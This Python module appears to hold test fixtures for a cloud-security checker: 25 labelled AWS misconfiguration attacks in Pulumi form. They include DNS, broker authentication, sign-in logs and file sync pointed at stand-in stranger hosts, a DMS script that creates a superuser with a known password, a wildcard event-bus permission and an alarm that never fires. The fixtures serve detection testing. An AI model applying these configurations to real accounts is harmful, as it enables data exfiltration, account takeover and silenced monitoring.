"""Attacks on AWS, of all concerns (2026-11-29, twelfth set, written blind): seldom types, opaque ids and texts.

Properties by pulumi-aws 7.51.1. Read on 2026-11-29: Amazon MQ Developer Guide ("HTTP authentication and authorization
for RabbitMQ"), IAM User Guide ("Outbound identity federation"), Systems Manager (RegisterDefaultHostManagement-
Configuration), CloudWatch (PutCompositeAlarm), IAM Identity Center (AddRegion); all other pages as known.
"""

import json

from ..blind import KEY, ME, TAGS, THEM, aws, policy, statement
from ..idioms.fourth_kubernetes import BUDGET
from . import Attack
from .cost_services import AWS, STACK
from .tenth_aws import ESC, IDN, RES, TAKEN, R, _ours, _to_them

WATCH = ("FJ-ESC-", "FJ-RSL-")
STRANGER = "198.51.100.7"
STRANGER_HOST = "collector.example"
BROKER = f"""auth_backends.1 = http
auth_http.http_method = post
auth_http.user_path = https://auth.{STRANGER_HOST}/user
auth_http.vhost_path = https://auth.{STRANGER_HOST}/vhost
auth_http.resource_path = https://auth.{STRANGER_HOST}/resource
auth_http.topic_path = https://auth.{STRANGER_HOST}/topic
"""
METASTORE = [{"Classification": "hive-site", "Properties": {
    "javax.jdo.option.ConnectionURL": f"jdbc:mysql://{STRANGER}:3306/hive?useSSL=true",
    "javax.jdo.option.ConnectionUserName": "hive"}}]  # fmt: skip
TRAFFIC = {"AWSPolicyFormatVersion": "2015-10-01", "RecordType": "A", "StartEndpoint": "first",
           "Endpoints": {"first": {"Type": "value", "Value": STRANGER}}}  # fmt: skip
AFTER_CONNECT = "CREATE ROLE reports LOGIN PASSWORD 'winter'; GRANT rds_superuser TO reports;"
LOOKS_ALIKE = "\u0441\u0441-4711"

ATTACKS = (
    Attack("a database of payments offers ciphers that were broken", ("FJ-ENC-",), (aws("rds/ParameterGroup", {
        "name": "payments", "family": "sqlserver-se-16.0", "description": "payments", "tags": TAGS, "parameters": [
            {"name": "rds.force_ssl", "value": "1", "applyMethod": "pending-reboot"},
            {"name": "rds.tls10", "value": "enabled", "applyMethod": "pending-reboot"},
            {"name": "rds.rc4", "value": "enabled", "applyMethod": "pending-reboot"},
            {"name": "rds.3des168", "value": "enabled", "applyMethod": "pending-reboot"}]}),),
        "major", "a listener reads what was encrypted with RC4 (Amazon RDS, 'SQL Server security protocols, ciphers')"),
    Attack("a policy of traffic leads customers to a stranger's machine", RES, (aws("route53/TrafficPolicy", {
        "name": "portal", "document": json.dumps(TRAFFIC)}),),
        "critical", "customers sign in there (Route 53, 'Traffic policy document format')"),
    Attack("the domain of the bank is given to name servers of a stranger", RES, (
        aws("route53domains/RegisteredDomain", {
            "domainName": "bank.example", "transferLock": True, "autoRenew": True, "tags": TAGS, "nameServers": [
                {"name": f"ns1.{STRANGER_HOST}"}, {"name": f"ns2.{STRANGER_HOST}"}]}),),
        "critical", "the stranger answers for each name and gets certificates (UpdateDomainNameservers)"),
    Attack("users of a broker are checked by a server of a stranger", IDN, (aws("mq/Configuration", {
        "name": "orders", "engineType": "RABBITMQ", "engineVersion": "4.2", "data": BROKER, "tags": TAGS}),),
        "critical", "the stranger gets passwords and says who may read which queue (Amazon MQ, 'HTTP authentication')"),
    Attack("sign-ins of customers are logged in a stranger's bucket", RES, (aws("cognito/LogDeliveryConfiguration", {
        "userPoolId": f"{R}_Ab1Cd2Ef3", "logConfigurations": [{
            "eventSource": "userAuthEvents", "logLevel": "INFO",
            "s3Configuration": {"bucketArn": "arn:aws:s3:::collector-sign-ins"}}]}),),
        "critical", "who, when, with which device and address (Amazon Cognito, 'Exporting user activity logs')"),
    Attack("reports of tests are exported to a stranger", RES, (aws("codebuild/ReportGroup", {
        "name": "portal", "type": "TEST", "tags": TAGS, "exportConfig": {"type": "S3", "s3Destination": {
            "bucket": "collector-reports", "packaging": "ZIP", "path": "portal", "encryptionKey": KEY}}}),),
        "major", "messages of failed tests have rows and hosts (AWS CodeBuild, 'Test reports', export)"),
    Attack("a stranger hears of each release and each comment on code", RES, (
        aws("codestarnotifications/NotificationRule", {
            "name": "releases", "detailType": "FULL", "resource": _ours("codecommit", "portal"),
            "eventTypeIds": ["codecommit-repository-comments-on-commits"], "tags": TAGS,
            "targets": [{"type": "SNS", "address": f"arn:aws:sns:{R}:{THEM}:collector"}]}),),
        "major", "remarks of developers with lines of code are theirs (Developer Tools, 'Notification rules')"),
    Attack("images are built by steps that stand in a stranger's bucket", ESC, (aws("imagebuilder/Workflow", {
        "name": "build", "type": "BUILD", "version": "1.0.0", "kmsKeyId": KEY, "tags": TAGS,
        "uri": "s3://collector-workflows/build.yml"}),),
        "critical", "what the steps leave in the image runs on every machine (EC2 Image Builder, 'Workflows', uri)"),
    Attack("files are synchronized with an NFS server of a stranger", RES, (aws("datasync/NfsLocation", {
        "serverHostname": STRANGER, "subdirectory": "/in", "tags": TAGS, "mountOptions": {"version": "NFS4_1"},
        "onPremConfig": {"agentArns": [_ours("datasync", "agent/agent-0123456789abcdef0")]}}),),
        "critical", f"{TAKEN} (AWS DataSync, 'NFS file server')"),
    Attack("an endpoint of unknown owner is let in to a service", ("FJ-EXP-", "FJ-RES-", "FJ-IDN-"), (
        aws("ec2/VpcEndpointConnectionAccepter", {
            "vpcEndpointServiceId": "vpce-svc-0123456789abcdef0", "vpcEndpointId": "vpce-0fedcba9876543210"}),),
        "major", "another account calls the ledger (AWS PrivateLink, AcceptVpcEndpointConnections)"),
    Attack("calls between services are logged in a stranger's bucket", RES, (aws("vpclattice/AccessLogSubscription", {
        "resourceIdentifier": "sn-0123456789abcdef0", "serviceNetworkLogType": "SERVICE", "tags": TAGS,
        "destinationArn": "arn:aws:s3:::collector-calls"}),),
        "major", "who calls what with which path is theirs (VPC Lattice, 'Access logs')"),
    Attack("a role gets tokens in the account's name for services outside", ("FJ-IDN-", "FJ-RES-"), (policy(
        statement("sts:GetWebIdentityToken")),),
        "major", "any cloud that trusts the issuer takes its data (IAM, 'Outbound identity federation')"),
    Attack("a role puts its own key into the account of each partner", ("FJ-IDN-",), (policy(
        statement(["transfer:ImportSshPublicKey", "transfer:ListUsers"])),),
        "critical", "it signs in as every partner and reads the files (AWS Transfer Family, ImportSshPublicKey)"),
    Attack("rights of the lake are not asked where an older policy lets in", ESC, (aws("lakeformation/Resource", {
        "arn": "arn:aws:s3:::awsuae-lake", "roleArn": f"arn:aws:iam::{ME}:role/lake", "hybridAccessEnabled": True}),),
        "major", "who has not been opted in reads every column (Lake Formation, 'Hybrid access mode')"),
    Attack("models of a group are handed to a stranger's account", RES, (aws("sagemaker/ModelPackageGroupPolicy", {
        "modelPackageGroupName": "scoring", "resourcePolicy": _to_them(
            ["sagemaker:DescribeModelPackage", "sagemaker:ListModelPackages", "sagemaker:CreateModel"],
            _ours("sagemaker", "model-package/scoring/*"))}),),
        "critical", "models with what they learned of customers leave (SageMaker, 'Cross-account model groups')"),
    Attack("every account puts events on the bus", ("FJ-EXP-", "FJ-IDN-"), (aws("cloudwatch/EventPermission", {
        "principal": "*", "statementId": "everybody", "action": "events:PutEvents", "eventBusName": "orders"}),),
        "critical", "a stranger places orders that rules carry out (Amazon EventBridge, PutPermission, '*')"),
    Attack("each machine without a role of its own gets that of deployments", ("FJ-IDN-", "FJ-ESC-"), (
        aws("ssm/ServiceSetting", {
            "settingId": _ours("ssm", "servicesetting/ssm/managed-instance/default-ec2-instance-management-role"),
            "settingValue": "deployments"}),),
        "critical", "who is on any machine deploys (Systems Manager, 'Default Host Management Configuration')"),
    Attack("a directory has twenty domain controllers", ("FJ-COST-",), (STACK, AWS, BUDGET,
        aws("directoryservice/Directory", {
            "name": "corp.internal", "shortName": "CORP", "password": "{{resolved-at-deploy}}", "type": "MicrosoftAD",
            "edition": "Enterprise", "desiredNumberOfDomainControllers": 20, "tags": TAGS,
            "vpcSettings": {"vpcId": "vpc-1", "subnetIds": ["subnet-1", "subnet-2"]}})),
        "major", "ten times the price of the two that are needed (AWS Directory Service, 'Pricing')"),
    Attack("a group of a cluster that exists gets four hundred machines", ("FJ-COST-",), (STACK, AWS, BUDGET,
        aws("emr/InstanceGroup", {
            "clusterId": "j-0123456789ABC", "name": "more", "instanceType": "r5.24xlarge", "instanceCount": 400})),
        "major", "millions of dirhams a month (Amazon EMR, AddInstanceGroups)"),
    Attack("a bucket is booked on a cost centre that only looks like one", ("FJ-TAG-",), (aws("s3/Bucket", {
        "bucket": "awsuae-archive", "tags": {**TAGS, "cost-centre": LOOKS_ALIKE}}),),
        "minor", "the two first letters are Cyrillic: nobody is charged (AWS Billing, 'Cost allocation tags')"),
    Attack("new disks of the account are encrypted with a stranger's key", ("FJ-ENC-", "FJ-RES-", "FJ-IDN-116"), (
        aws("ebs/DefaultKmsKey", {"keyArn": f"arn:aws:kms:{R}:{THEM}:key/22222222-2222-3333-4444-555555555555"}),),
        "major", "the stranger can make all disks unreadable (Amazon EBS, ModifyEbsDefaultKmsKeyId)"),
    Attack("staff and groups are replicated to Identity Center abroad", ("FJ-RES-",), (aws("ssoadmin/Region", {
        "instanceArn": "arn:aws:sso:::instance/ssoins-0123456789abcdef", "regionName": "eu-west-1"}),),
        "critical", "names, addresses and memberships lie in Ireland (IAM Identity Center, AddRegion)"),
    Attack("a cluster keeps its catalogue in a database of a stranger", RES, (aws("emr/Cluster", {
        "name": "etl", "releaseLabel": "emr-7.9.0", "applications": ["Hive", "Spark"], "tags": TAGS,
        "serviceRole": f"arn:aws:iam::{ME}:role/emr", "securityConfiguration": "encrypted",
        "logUri": "s3://awsuae-logs/emr/", "configurationsJson": json.dumps(METASTORE),
        "masterInstanceGroup": {"instanceType": "m6g.xlarge"},
        "coreInstanceGroup": {"instanceType": "m6g.xlarge", "instanceCount": 1}, "ec2Attributes": {
            "instanceProfile": "emr", "subnetId": "subnet-1", "emrManagedMasterSecurityGroup": "sg-1",
            "emrManagedSlaveSecurityGroup": "sg-2", "serviceAccessSecurityGroup": "sg-3"}}),),
        "critical", "the stranger says from where tables are read and written (Amazon EMR, 'External metastore')"),
    Attack("a migration makes a superuser as soon as it is connected", ("FJ-IDN-", "FJ-ESC-"), (aws("dms/Endpoint", {
        "endpointId": "orders", "endpointType": "source", "engineName": "aurora-postgresql", "databaseName": "orders",
        "sslMode": "verify-full", "kmsKeyArn": KEY, "tags": TAGS, "certificateArn": _ours("dms", "cert:ca"),
        "secretsManagerArn": _ours("secretsmanager", "secret:orders"),
        "secretsManagerAccessRoleArn": f"arn:aws:iam::{ME}:role/dms",
        "postgresSettings": {"afterConnectScript": AFTER_CONNECT}}),),
        "critical", "a known password opens every table (AWS DMS, PostgreSQLSettings, AfterConnectScript)"),
    Attack("an alarm of alarms is false by its own rule", WATCH, (aws("cloudwatch/CompositeAlarm", {
        "alarmName": "intrusion", "actionsEnabled": True, "alarmActions": [_ours("sns", "guards")], "tags": TAGS,
        "alarmRule": '(ALARM("root-used") OR ALARM("trail-stopped")) AND FALSE'}),),
        "major", "nobody is called (Amazon CloudWatch, PutCompositeAlarm, 'FALSE always evaluates to FALSE')"),
)  # fmt: skip
